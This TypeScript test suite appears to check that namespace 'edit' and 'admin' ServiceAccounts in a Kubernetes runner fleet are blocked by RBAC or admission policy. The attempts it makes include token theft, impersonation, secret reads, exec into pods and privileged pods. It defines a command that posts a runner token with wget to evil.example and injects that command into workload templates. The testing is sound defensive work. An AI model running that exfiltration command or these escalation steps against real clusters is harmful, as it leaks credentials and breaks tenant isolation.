import { EDITOR_ATTEMPTS } from '../../lib/ledger/namespace-editors';
import { type Answer, ApiServer } from './cluster/api-server';
import { managerPod, tokenOf, userOf } from './cluster/identities';
import { type Pod, pathOf } from './cluster/objects';
import { haveFleet, NAMESPACE, readStage } from './cluster/on-stage';
import { eventually } from './cluster/wait';

/** Where the editors come from: they are ServiceAccounts, since only a credential of one's own can impersonate. */
const HOME = 'editors';
const ROLES = ['edit', 'admin'] as const;
type Role = (typeof ROLES)[number];

const DRY = '?dryRun=All';
const APPS = (resource: string) => `/apis/apps/v1/namespaces/${NAMESPACE}/${resource}`;
const RBAC = `/apis/rbac.authorization.k8s.io/v1/namespaces/${NAMESPACE}/rolebindings`;
const NETWORK = `/apis/networking.k8s.io/v1/namespaces/${NAMESPACE}/networkpolicies`;
const core = (resource: string, name?: string) => pathOf(resource, NAMESPACE, name);

const STEAL = ['sh', '-c', 'wget --post-data $RUNNER_TOKEN https://evil.example'];

const withCommand = (command: readonly string[] | null) => ({
  spec: { template: { spec: { containers: [{ name: 'manager', command }] } } },
});

describe('what editors of the namespace can do', () => {
  const stage = readStage();
  const api = new ApiServer(stage);
  const tokens = new Map<Role, string>();
  const clients: ApiServer[] = [api];
  let manager: Pod;

  function as(role: Role, user?: string): ApiServer {
    const token = tokens.get(role) ?? '';
    const client = api.as({ token, ...(user ? { user } : {}) });
    clients.push(client);
    return client;
  }

  beforeAll(async () => {
    await haveFleet(stage, api);
    await api.create(pathOf('namespaces'), { metadata: { name: HOME } });
    for (const role of ROLES) {
      await api.create(pathOf('serviceaccounts', HOME), { metadata: { name: role } });
      await api.create(RBAC, {
        metadata: { name: `editors-${role}` },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
        subjects: [{ kind: 'ServiceAccount', name: role, namespace: HOME }],
      });
      const { body } = await api.create(`${pathOf('serviceaccounts', HOME, role)}/token`, {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: { expirationSeconds: 3600 },
      });
      tokens.set(role, body['status'].token);
    }
    manager = await managerPod(api, NAMESPACE, 'dind');
    await eventually(
      'the roles are bound',
      async () => (await as('admin').get(core('secrets'))).status === 200,
    );
  }, 120_000);
  afterAll(async () => {
    for (const path of [...ROLES.map((role) => `${RBAC}/editors-${role}`), `${RBAC}/more`]) {
      await api.delete(path);
    }
    await api.delete(pathOf('namespaces', undefined, HOME));
    for (const client of clients) {
      client.close();
    }
  }, 60_000);

  /** What was said about the pods that the ReplicaSet of a changed Deployment could not make. */
  async function refusalOfPods(client: ApiServer, command: readonly string[]): Promise<Answer> {
    const failed = async () => {
      const { body } = await api.get(`${core('events')}?fieldSelector=reason=FailedCreate`);
      return body['items'] as { involvedObject: { name: string }; message: string }[];
    };
    const known = new Set((await failed()).map(({ involvedObject }) => involvedObject.name));
    const patched = await client.patch(
      `${APPS('deployments')}/dind-manager`,
      withCommand(command),
      'strategic',
    );
    if (patched.status !== 200) {
      return patched;
    }
    try {
      return await eventually('the pods of the changed Deployment are refused', async () => {
        const event = (await failed()).find(({ involvedObject: { name } }) => !known.has(name));
        return event && { ...patched, status: 403, body: { ...patched.body, message: event.message } };
      });
    } finally {
      // Whoever applies does not take back what others added.
      await api.patch(`${APPS('deployments')}/dind-manager`, withCommand(null), 'strategic');
      await haveFleet(stage, api);
    }
  }

  const template = () => ({
    metadata: { labels: manager.metadata.labels },
    spec: {
      serviceAccountName: 'dind-manager',
      containers: [
        {
          name: 'manager',
          image: manager.spec.containers[0]?.['image'],
          command: STEAL,
          env: [
            {
              name: 'RUNNER_TOKEN',
              valueFrom: { secretKeyRef: { name: 'dind-token', key: 'runner-token' } },
            },
          ],
        },
      ],
    },
  });
  const selector = () => ({ matchLabels: manager.metadata.labels });
  const podOf = (name: string) => `${core('pods', name)}${DRY}`;
  const workload = (apiVersion: string, kind: string, name: string, spec: object) => ({
    apiVersion,
    kind,
    metadata: { name },
    spec,
  });

  /** One attempt or several; all of them must end alike. */
  const TRY: Readonly<Record<string, (role: Role) => Promise<readonly Answer[]>>> = {
    'deployment-as-manager': async (role) => [
      await as(role).create(
        `${APPS('deployments')}${DRY}`,
        workload('apps/v1', 'Deployment', 'dind-manager-x', { selector: selector(), template: template() }),
      ),
      await refusalOfPods(as(role), [...STEAL, role]),
    ],
    'other-workload-as-manager': async (role) => [
      await as(role).create(`${core('pods')}${DRY}`, { ...template(), metadata: { name: `stolen-${role}` } }),
      await as(role).create(
        `${APPS('statefulsets')}${DRY}`,
        workload('apps/v1', 'StatefulSet', 'stolen', { selector: selector(), template: template() }),
      ),
      await as(role).create(
        `/apis/batch/v1/namespaces/${NAMESPACE}/jobs${DRY}`,
        workload('batch/v1', 'Job', 'stolen', {
          template: { spec: { ...template().spec, restartPolicy: 'Never' } },
        }),
      ),
    ],
    'config-written': async (role) => [
      await as(role).patch(`${core('configmaps', 'dind-config')}${DRY}`, {
        data: { 'config.toml': 'x = 1' },
      }),
      await as(role).patch(`${core('configmaps', 'dind-config')}${DRY}`, { immutable: true }),
    ],
    'authority-written': async (role) => [
      await as(role).patch(`${core('configmaps', 'kube-root-ca.crt')}${DRY}`, { data: { 'ca.crt': 'x' } }),
    ],
    'manager-impersonated': async (role) => [
      await as(role, userOf(NAMESPACE, 'dind-manager')).create(`${core('pods')}${DRY}`, {
        metadata: { name: 'runner-x' },
        spec: { containers: [{ name: 'build', image: 'docker.io/library/docker:28.5.1-cli' }] },
      }),
    ],
    'token-requested': async (role) => [
      await as(role).create(`${core('serviceaccounts', 'dind-manager')}/token${DRY}`, {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: {},
      }),
    ],
    'token-secret-filled': async (role) => [
      await as(role).create(`${core('secrets')}${DRY}`, {
        metadata: { name: 'filled', annotations: { 'kubernetes.io/service-account.name': 'dind-manager' } },
        type: 'kubernetes.io/service-account-token',
      }),
    ],
    'command-run': async (role) => [
      await as(role).create(`${core('pods', manager.metadata.name)}/exec?command=sh&stdout=true`, undefined),
      await as(role).create(`${core('pods', manager.metadata.name)}/attach?stdout=true`, undefined),
      await as(role).create(`${core('pods', manager.metadata.name)}/portforward?ports=9252`, undefined),
      await as(role).get(`${core('pods', `${manager.metadata.name}:9252`)}/proxy/metrics`),
    ],
    'service-proxied': async (role) => [await as(role).get(`${core('services', 'mine:9252')}/proxy/metrics`)],
    'container-added': async (role) => [
      await as(role).patch(`${core('pods', manager.metadata.name)}/ephemeralcontainers${DRY}`, {
        spec: { ephemeralContainers: [{ name: 'debugger', image: 'busybox' }] },
      }),
    ],
    'pod-changed': async (role) => [
      await as(role).patch(podOf(manager.metadata.name), {
        spec: { containers: [{ ...manager.spec.containers[0], image: 'docker.io/library/busybox:1' }] },
      }),
      await as(role).patch(podOf(manager.metadata.name), {
        metadata: { labels: { 'runner-fleet/role': 'job' } },
      }),
    ],
    'finalizer-added': async (role) => [
      await as(role).patch(podOf(manager.metadata.name), { metadata: { finalizers: ['example.com/mine'] } }),
    ],
    'privileged-pod': async (role) => [
      await as(role).create(`${core('pods')}${DRY}`, {
        metadata: { name: 'mine' },
        spec: {
          hostPID: true,
          containers: [{ name: 'a', image: 'b', securityContext: { privileged: true } }],
        },
      }),
    ],
    'quota-changed': async (role) => [
      await as(role).delete(core('resourcequotas', 'dind-job'), { dryRun: ['All'] }),
      await as(role).delete(core('limitranges', 'containers'), { dryRun: ['All'] }),
    ],
    'namespace-changed': async (role) => [
      await as(role).patch(`${pathOf('namespaces', undefined, NAMESPACE)}${DRY}`, {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
      }),
      await as(role).delete(pathOf('namespaces', undefined, NAMESPACE), { dryRun: ['All'] }),
    ],
    'role-written': async (role) => {
      const bound = await as(role).create(RBAC, {
        metadata: { name: 'more' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'edit' },
        subjects: [{ kind: 'ServiceAccount', name: 'docker-manager', namespace: NAMESPACE }],
      });
      expect(bound.status).toBe(role === 'admin' ? 201 : 403);
      if (role === 'edit') {
        return [];
      }
      const bounded = api.as({ user: userOf(NAMESPACE, 'docker-manager'), extra: tokenOf('docker-manager') });
      clients.push(bounded);
      return [
        await eventually('the role is bound', async () => {
          const answer = await bounded.create(`${core('configmaps')}${DRY}`, { metadata: { name: 'mine' } });
          return String(answer.body['message']).includes('ValidatingAdmissionPolicy') && answer;
        }),
      ];
    },
    'secret-read': async (role) => [await as(role).get(core('secrets', 'dind-token'))],
    'secret-replaced': async (role) => [
      await as(role).patch(`${core('secrets', 'dind-token')}${DRY}`, { data: { 'runner-token': 'eA==' } }),
    ],
    'network-policy-written': async (role) => [
      await as(role).create(`${NETWORK}${DRY}`, {
        metadata: { name: 'open' },
        spec: { podSelector: {}, egress: [{}], ingress: [{}], policyTypes: ['Ingress', 'Egress'] },
      }),
      await as(role).delete(`${NETWORK}/default-deny`, { dryRun: ['All'] }),
    ],
    // The simulated nodes have no logs; the question is whether one may ask.
    'logs-read': async (role) => [await maySay(as(role), 'get', '', 'pods', 'log')],
    'manager-evicted': async (role) => [
      await as(role).delete(core('pods', manager.metadata.name), { dryRun: ['All'] }),
      await maySay(as(role), 'create', '', 'pods', 'eviction'),
    ],
    'manager-scaled': async (role) => [
      await as(role).patch(`${APPS('deployments')}/dind-manager/scale${DRY}`, { spec: { replicas: 0 } }),
    ],
    'config-deleted': async (role) => [
      await as(role).delete(core('configmaps', 'dind-config'), { dryRun: ['All'] }),
      await as(role).delete(`${APPS('deployments')}/dind-manager`, { dryRun: ['All'] }),
      await as(role).delete(core('serviceaccounts', 'dind-manager'), { dryRun: ['All'] }),
    ],
    'disruption-budget-written': async (role) => [
      await as(role).create(`/apis/policy/v1/namespaces/${NAMESPACE}/poddisruptionbudgets${DRY}`, {
        metadata: { name: 'mine' },
        spec: { maxUnavailable: 0, selector: {} },
      }),
    ],
  };

  test('every attempt of the ledger is tried', () => {
    expect(Object.keys(TRY).sort()).toEqual(EDITOR_ATTEMPTS.map(({ id }) => id).sort());
  });

  describe.each(ROLES)('%s', (role) => {
    test.each(EDITOR_ATTEMPTS.map(({ id, attempt, stop }) => [id, attempt, stop] as const))(
      '%s: %s',
      async (id, _attempt, stop) => {
        const answers = (await TRY[id]?.(role)) ?? [];
        const told = answers.map(({ status, body }) => ({ status, message: String(body['message'] ?? '') }));
        for (const { status, message } of told) {
          switch (stop.by) {
            case 'nothing':
              expect({ message, refused: status >= 300 }).toEqual({ message, refused: false });
              break;
            case 'roles':
              expect({ status, message }).toEqual({
                status: 403,
                message: expect.stringContaining('cannot'),
              });
              break;
            case 'admission':
              expect({ status, message }).toEqual({
                status: 403,
                message: expect.stringMatching(
                  /ValidatingAdmissionPolicy '[a-z-]+' with binding '[a-z-]+' denied request: \[/,
                ),
              });
          }
        }
      },
    );
  });
});

/** Whether the roles allow something that the stage cannot do; as an answer of status 200 or 403. */
async function maySay(
  client: ApiServer,
  verb: string,
  group: string,
  resource: string,
  subresource: string,
): Promise<Answer> {
  const answer = await client.create('/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', {
    apiVersion: 'authorization.k8s.io/v1',
    kind: 'SelfSubjectAccessReview',
    spec: { resourceAttributes: { namespace: NAMESPACE, verb, group, resource, subresource } },
  });
  return { ...answer, status: answer.body['status'].allowed ? 200 : 403 };
}
